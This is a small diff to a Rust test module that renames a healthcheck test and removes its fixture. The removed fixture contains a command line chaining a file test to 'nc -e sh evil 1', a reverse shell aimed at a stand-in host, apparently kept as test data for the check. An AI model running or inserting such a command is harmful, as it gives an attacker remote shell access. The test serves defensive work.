@@ -111,8 +111,7 @@ mod tests {
     }
 
     #[test]
-    fn a_longer_command_is_not_the_healthcheck() {
-        let configured = [Text::from("/bin/sh"), "-c".into(), "test -f /ok; nc -e sh evil 1".into()];
-        check(|a| a.healthcheck = Some(&configured[..2]), Stage::Exec);
+    fn a_part_of_the_healthcheck_is_not_the_healthcheck() {
+        check(|a| a.healthcheck = Some(&a.arguments[..2]), Stage::Exec);
     }
 }
